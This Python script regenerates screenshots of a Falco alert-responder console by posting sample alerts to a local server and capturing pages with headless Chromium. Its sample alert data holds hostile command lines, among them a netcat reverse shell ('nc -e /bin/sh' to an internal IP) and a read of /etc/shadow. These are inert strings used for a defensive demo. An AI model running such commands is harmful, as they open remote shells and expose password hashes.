"""Regenerate the console screenshots in docs/ (PNG): overview, timeline, alert page and the
table editor with a change tried, from `responder serve` on a loopback port fed sample
alerts, captured by headless chromium.

    python docs/screenshots.py          # needs chromium and chromium-driver (Debian)
"""

from __future__ import annotations

import sys
import tempfile
import time
from pathlib import Path

import requests

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))  # the responder and tests/ helpers, without install

from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.support import expected_conditions as ready  # noqa: E402
from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402

from tests.browser import chrome, chromium_paths  # noqa: E402
from tests.serving import served  # noqa: E402

TOKEN = "screenshot-token"
SAMPLES = [  # (Falco rule, priority, namespace, pod, node, command)
    ("Terminal shell in container", "Notice", "shop", "web-7d9f-x2k4", "node-a", "bash -i"),
    ("Netcat Remote Code Execution in Container", "Warning", "shop", "api-5c6b-9qz1",
     "node-b", "nc -e /bin/sh 10.0.0.7 4444"),
    ("Read sensitive file untrusted", "Warning", "billing", "worker-0", "node-a",
     "cat /etc/shadow"),
    ("Terminal shell in container", "Notice", "kube-system", "coredns-6f8c-j2lw", "node-c",
     "sh"),
    ("Drop and execute new binary in container", "Critical", "shop", "web-7d9f-x2k4",
     "node-a", "/tmp/.x/miner"),
    ("Contact K8S API Server From Container", "Notice", "ci", "runner-42", "node-b",
     "curl https://10.96.0.1"),
]
TRY = """
  - name: label-api-contacts
    match: {rules: ["Contact K8S API Server From Container"]}
    actions:
      - action: label-pod
        params: {labels: {falco-api-contact: "true"}}
"""


def post_samples(base: str) -> list[str]:
    uuids = []
    for n, (rule, priority, namespace, pod, node, cmd) in enumerate(SAMPLES * 3):
        uuid = f"7f3c9a2e-0000-4000-8000-{n:012d}"
        body = {"uuid": uuid, "rule": rule, "priority": priority, "source": "syscall",
                "hostname": node, "tags": ["container", "shell", "mitre_execution"],
                "time": time.strftime("%Y-%m-%dT%H:%M:%S.000000000Z", time.gmtime()),
                "output": f"{rule} (user=root pod={pod} ns={namespace} cmdline={cmd})",
                "output_fields": {"k8s.ns.name": namespace, "k8s.pod.name": pod,
                                  "proc.cmdline": cmd, "user.name": "root",
                                  "container.id": f"{n:012x}",
                                  "container.image.repository": "registry.example/shop"}}
        reply = requests.post(base + "/", json=body, timeout=10,
                              headers={"Authorization": f"Bearer {TOKEN}"})
        reply.raise_for_status()
        uuids.append(uuid)
    return uuids


def capture(browser, base: str, uuids: list[str], out: Path) -> None:
    wait = WebDriverWait(browser, 20)
    browser.get(base + "/ui/login")
    browser.find_element(By.ID, "token").send_keys(TOKEN)
    browser.find_element(By.ID, "login").click()
    wait.until(ready.presence_of_element_located((By.ID, "mode")))
    browser.get(base + "/ui/")
    browser.save_screenshot(str(out / "console-overview.png"))
    browser.get(base + "/ui/alerts")
    wait.until(lambda b: len(b.find_elements(By.CSS_SELECTOR, "tr[data-uuid]")) >= 10)
    browser.save_screenshot(str(out / "console-timeline.png"))
    browser.get(base + f"/ui/alerts/{uuids[1]}")
    wait.until(lambda b: "Reading" not in b.find_element(By.ID, "audit").text)
    whole_page(browser, out / "console-alert.png")
    browser.get(base + "/ui/table")
    editor = wait.until(ready.presence_of_element_located((By.ID, "table-text")))
    browser.execute_script("arguments[0].value += arguments[1];"
                           "arguments[0].dispatchEvent(new Event('input'));", editor, TRY)
    wait.until(ready.visibility_of_element_located((By.ID, "diff")))
    browser.execute_script("document.getElementById('check-result').scrollIntoView()")
    browser.save_screenshot(str(out / "console-table.png"))


def whole_page(browser, path: Path, most: int = 2000) -> None:
    """A screenshot of the page down to its end (up to `most` pixels high)."""
    size = browser.get_window_size()
    height = browser.execute_script("return document.documentElement.scrollHeight")
    browser.set_window_size(size["width"], min(most, height + 140))  # + the window's frame
    browser.save_screenshot(str(path))
    browser.set_window_size(size["width"], size["height"])


def main() -> int:
    paths = chromium_paths()
    if paths is None:
        print("needs chromium and chromium-driver (apt-get install chromium chromium-driver)",
              file=sys.stderr)
        return 1
    out = ROOT / "docs"
    with tempfile.TemporaryDirectory(prefix="responder-shots-") as tmp:
        env = {"RESPONDER_AUTH_TOKEN": TOKEN, "RESPONDER_STATE_DIR": tmp,
               "PYTHONPATH": str(ROOT)}
        with served(env) as base:
            uuids = post_samples(base)
            deadline = time.monotonic() + 20
            while requests.get(f"{base}/events/{uuids[-1]}", timeout=5, headers={
                    "Authorization": f"Bearer {TOKEN}"}).json()["state"] not in ("done",
                                                                                "failed"):
                if time.monotonic() > deadline:
                    raise RuntimeError("the worker did not finish the sample alerts")
                time.sleep(0.2)
            with chrome(*paths, width=1280, height=1000) as browser:
                capture(browser, base, uuids, out)
    print("wrote " + ", ".join(f"docs/console-{n}.png"
                               for n in ("overview", "timeline", "alert", "table")))
    return 0


if __name__ == "__main__":
    sys.exit(main())
